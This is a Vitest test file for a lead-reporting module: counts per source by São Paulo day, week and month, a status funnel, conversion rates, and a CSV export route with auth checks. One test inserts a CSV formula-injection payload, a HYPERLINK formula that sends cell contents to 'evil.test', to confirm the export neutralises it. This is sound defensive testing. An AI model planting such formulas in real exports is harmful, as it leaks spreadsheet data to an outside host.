import { and, eq } from "drizzle-orm";
import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";
import { GET } from "@/app/api/reports/leads.csv/route";
import type { Db, DbConnection } from "@/lib/db/client";
import { contacts, leadSources, leads, type LeadStatus } from "@/lib/db/schema";
import { conversionByAd, conversionBySource, leadFunnel, leadsBySource, parseLeadReportBucket } from "@/lib/reports/lead-sources";
import { parseReportPeriod } from "@/lib/reports/period";
import { createMember, createWorkspace } from "../support/factories";
import { actAs, useDatabase } from "../support/request-context";
import { createTestDb } from "../support/test-db";

vi.mock("@/lib/realtime/publish", () => ({ publish: vi.fn(async () => {}) }));

let connection: DbConnection;
let db: Db;
let ws: string;
let otherWs: string;
let csvWs: string;
let whatsapp: string;
let facebook: string;
let contactSeq = 0;

// March 2025 in São Paulo (UTC-3, no daylight saving): [2025-03-01T03:00Z, 2025-04-01T03:00Z).
const MARCH = parseReportPeriod({ from: "2025-03-01", to: "2025-03-31" }, "America/Sao_Paulo");

const systemSource = async (workspaceId: string, key: string) =>
  (await db.select().from(leadSources).where(and(eq(leadSources.workspaceId, workspaceId), eq(leadSources.systemKey, key))))[0]!.id;

/** A lead created at a São Paulo wall-clock time ("2025-03-03T23:30"). */
async function lead(
  workspaceId: string,
  localTime: string,
  sourceId: string | null,
  extra: { status?: LeadStatus; outcome?: "won" | "lost"; adId?: string; adHeadline?: string } = {},
) {
  const [contact] = await db.insert(contacts).values({ workspaceId, waId: `55219${String(++contactSeq).padStart(8, "0")}` }).returning();
  await db.insert(leads).values({ workspaceId, contactId: contact!.id, sourceId, createdAt: new Date(`${localTime}:00-03:00`), ...extra });
}

beforeAll(async () => {
  connection = await createTestDb();
  db = connection.db;
  useDatabase(db);
  ws = (await createWorkspace(db)).id;
  otherWs = (await createWorkspace(db)).id;
  csvWs = (await createWorkspace(db)).id;
  whatsapp = await systemSource(ws, "whatsapp");
  facebook = await systemSource(ws, "facebook");

  await lead(ws, "2025-03-01T00:30", facebook, { status: "contacted" }); // first minutes of the period, a Saturday
  await lead(ws, "2025-03-03T10:00", whatsapp, { status: "closed", outcome: "won", adId: "ad-1", adHeadline: "Promo A" });
  await lead(ws, "2025-03-03T23:30", whatsapp); // already 4 March in UTC: still the 3rd in São Paulo
  await lead(ws, "2025-03-04T09:00", facebook, { status: "closed", outcome: "lost", adId: "ad-1", adHeadline: "Promo B" });
  await lead(ws, "2025-03-09T12:00", facebook, { status: "closed", outcome: "won", adId: "ad-1" }); // a Sunday; no headline
  await lead(ws, "2025-03-10T08:00", whatsapp, { status: "in_progress", adId: "ad-2", adHeadline: "Promo C" });
  await lead(ws, "2025-03-20T10:00", null); // no source
  await lead(ws, "2025-03-31T23:00", whatsapp, { status: "qualified" }); // already April in UTC: still the period's last day
  // Outside the period, one minute before and at the very start of the next day.
  await lead(ws, "2025-02-28T23:59", whatsapp, { status: "closed", outcome: "won", adId: "ad-1", adHeadline: "Old promo" });
  await lead(ws, "2025-04-01T00:00", facebook, { status: "closed", outcome: "won" });
  // Another workspace's leads in the period.
  await lead(otherWs, "2025-03-03T10:00", await systemSource(otherWs, "whatsapp"), { status: "closed", outcome: "won", adId: "ad-1", adHeadline: "Theirs" });
  await lead(otherWs, "2025-03-04T10:00", await systemSource(otherWs, "facebook"));
});
afterAll(async () => {
  actAs(null);
  await connection?.close();
});

const march = (workspaceId = ws) => ({ workspaceId, from: MARCH.start, to: MARCH.end, timeZone: MARCH.timeZone });

describe("leads per source", () => {
  it("counts per São Paulo calendar day, sources by name and leads without a source last", async () => {
    expect(await leadsBySource(db, { ...march(), bucket: "day" })).toEqual([
      { bucket: "2025-03-01", sourceId: facebook, sourceName: "Facebook", systemKey: "facebook", count: 1 },
      { bucket: "2025-03-03", sourceId: whatsapp, sourceName: "WhatsApp", systemKey: "whatsapp", count: 2 },
      { bucket: "2025-03-04", sourceId: facebook, sourceName: "Facebook", systemKey: "facebook", count: 1 },
      { bucket: "2025-03-09", sourceId: facebook, sourceName: "Facebook", systemKey: "facebook", count: 1 },
      { bucket: "2025-03-10", sourceId: whatsapp, sourceName: "WhatsApp", systemKey: "whatsapp", count: 1 },
      { bucket: "2025-03-20", sourceId: null, sourceName: null, systemKey: null, count: 1 },
      { bucket: "2025-03-31", sourceId: whatsapp, sourceName: "WhatsApp", systemKey: "whatsapp", count: 1 },
    ]);
  });

  it("counts per week starting on Monday, the first week named by its Monday before the period", async () => {
    const rows = await leadsBySource(db, { ...march(), bucket: "week" });
    expect(rows.map(({ bucket, sourceName, count }) => [bucket, sourceName, count])).toEqual([
      ["2025-02-24", "Facebook", 1],
      ["2025-03-03", "Facebook", 2],
      ["2025-03-03", "WhatsApp", 2],
      ["2025-03-10", "WhatsApp", 1],
      ["2025-03-17", null, 1],
      ["2025-03-31", "WhatsApp", 1],
    ]);
  });

  it("counts per month", async () => {
    const rows = await leadsBySource(db, { ...march(), bucket: "month" });
    expect(rows.map(({ bucket, sourceName, count }) => [bucket, sourceName, count])).toEqual([
      ["2025-03-01", "Facebook", 3],
      ["2025-03-01", "WhatsApp", 4],
      ["2025-03-01", null, 1],
    ]);
  });

  it("reads only the given workspace", async () => {
    const rows = await leadsBySource(db, { ...march(otherWs), bucket: "month" });
    expect(rows.map(({ bucket, sourceName, count }) => [bucket, sourceName, count])).toEqual([
      ["2025-03-01", "Facebook", 1],
      ["2025-03-01", "WhatsApp", 1],
    ]);
  });

  it("takes the bucket from the search parameter, a day when missing or unknown", () => {
    expect(parseLeadReportBucket("week")).toBe("week");
    expect(parseLeadReportBucket(["month", "day"])).toBe("month");
    expect(parseLeadReportBucket("year")).toBe("day");
    expect(parseLeadReportBucket(undefined)).toBe("day");
  });
});

describe("status funnel", () => {
  it("counts the period's leads by current status, every status listed in order with zeros", async () => {
    expect(await leadFunnel(db, march())).toEqual([
      { status: "new", count: 2 },
      { status: "in_progress", count: 1 },
      { status: "contacted", count: 1 },
      { status: "qualified", count: 1 },
      { status: "closed", count: 3 },
    ]);
    expect(await leadFunnel(db, { workspaceId: ws, from: new Date("2030-01-01T00:00:00Z"), to: new Date("2030-02-01T00:00:00Z") })).toEqual(
      ["new", "in_progress", "contacted", "qualified", "closed"].map((status) => ({ status, count: 0 })),
    );
  });
});

describe("conversion", () => {
  it("divides closed-won leads by all the period's leads per source, the busiest first", async () => {
    expect(await conversionBySource(db, march())).toEqual([
      { key: whatsapp, name: "WhatsApp", systemKey: "whatsapp", total: 4, won: 1, rate: 0.25 },
      { key: facebook, name: "Facebook", systemKey: "facebook", total: 3, won: 1, rate: 1 / 3 },
      { key: null, name: null, systemKey: null, total: 1, won: 0, rate: 0 },
    ]);
  });

  it("groups ads by ad id, named by the latest headline, leaving out leads without an ad", async () => {
    expect(await conversionByAd(db, march())).toEqual([
      { key: "ad-1", name: "Promo B", systemKey: null, total: 3, won: 2, rate: 2 / 3 },
      { key: "ad-2", name: "Promo C", systemKey: null, total: 1, won: 0, rate: 0 },
    ]);
  });

  it("answers nothing for a period without leads", async () => {
    const empty = { workspaceId: ws, from: new Date("2030-01-01T00:00:00Z"), to: new Date("2030-02-01T00:00:00Z") };
    expect(await conversionBySource(db, empty)).toEqual([]);
    expect(await conversionByAd(db, empty)).toEqual([]);
  });
});

describe("GET /api/reports/leads.csv", () => {
  let admin: { userId: string; workspaceId: string; role: "admin" };
  let agent: { userId: string; workspaceId: string; role: "agent" };
  const get = (query: string) => GET(new Request(`http://localhost/api/reports/leads.csv?${query}`), {});

  beforeAll(async () => {
    admin = { userId: (await createMember(db, { workspaceId: csvWs, role: "admin" })).userId, workspaceId: csvWs, role: "admin" };
    agent = { userId: (await createMember(db, { workspaceId: csvWs, role: "agent" })).userId, workspaceId: csvWs, role: "agent" };
    const [custom] = await db.insert(leadSources).values({ workspaceId: csvWs, name: 'Indicação "VIP", loja' }).returning();
    await lead(csvWs, "2025-05-05T09:00", await systemSource(csvWs, "whatsapp"));
    await lead(csvWs, "2025-05-05T18:00", custom!.id);
    await lead(csvWs, "2025-05-06T23:59", null);
    await lead(csvWs, "2025-05-07T00:00", custom!.id); // the day after the period
  });

  it("exports one row per bucket and source, every value quoted per RFC 4180", async () => {
    actAs(admin);
    const response = await get("from=2025-05-05&to=2025-05-06&bucket=day");
    expect(response.status).toBe(200);
    expect(response.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(response.headers.get("content-disposition")).toBe('attachment; filename="leads-by-source.csv"');
    expect(await response.text()).toBe(
      '"Period start","Source","Leads"\r\n' +
        '"2025-05-05","Indicação ""VIP"", loja","1"\r\n' +
        '"2025-05-05","WhatsApp","1"\r\n' +
        '"2025-05-06","No source","1"\r\n',
    );
  });

  it("uses the same bucket parameter as the page", async () => {
    actAs(admin);
    const response = await get("from=2025-05-05&to=2025-05-31&bucket=month");
    expect(await response.text()).toBe(
      '"Period start","Source","Leads"\r\n' +
        '"2025-05-01","Indicação ""VIP"", loja","2"\r\n' +
        '"2025-05-01","WhatsApp","1"\r\n' +
        '"2025-05-01","No source","1"\r\n',
    );
  });

  it("neutralises a lead source name that a spreadsheet would run as a formula", async () => {
    const hostileWs = (await createWorkspace(db)).id;
    const hostileAdmin = { userId: (await createMember(db, { workspaceId: hostileWs, role: "admin" as const })).userId, workspaceId: hostileWs, role: "admin" as const };
    const [hostile] = await db.insert(leadSources).values({ workspaceId: hostileWs, name: '=HYPERLINK("http://evil.test/?"&A1,"x")' }).returning();
    const [atSign] = await db.insert(leadSources).values({ workspaceId: hostileWs, name: "@SUM(1+1)" }).returning();
    await lead(hostileWs, "2025-05-05T09:00", hostile!.id);
    await lead(hostileWs, "2025-05-05T10:00", atSign!.id);
    actAs(hostileAdmin);
    const response = await get("from=2025-05-05&to=2025-05-05&bucket=day");
    expect(response.status).toBe(200);
    expect(await response.text()).toBe(
      '"Period start","Source","Leads"\r\n' +
        `"2025-05-05","'=HYPERLINK(""http://evil.test/?""&A1,""x"")","1"\r\n` +
        `"2025-05-05","'@SUM(1+1)","1"\r\n`,
    );
  });

  it("answers 401 without a session", async () => {
    actAs(null);
    const response = await get("from=2025-05-05&to=2025-05-06");
    expect(response.status).toBe(401);
    expect(await response.json()).toEqual({ error: "unauthorized:session" });
  });

  it("answers 404 to an agent, who may not see reports", async () => {
    actAs(agent);
    const response = await get("from=2025-05-05&to=2025-05-06");
    expect(response.status).toBe(404);
    expect(await response.json()).toEqual({ error: "not_found:reports" });
  });
});
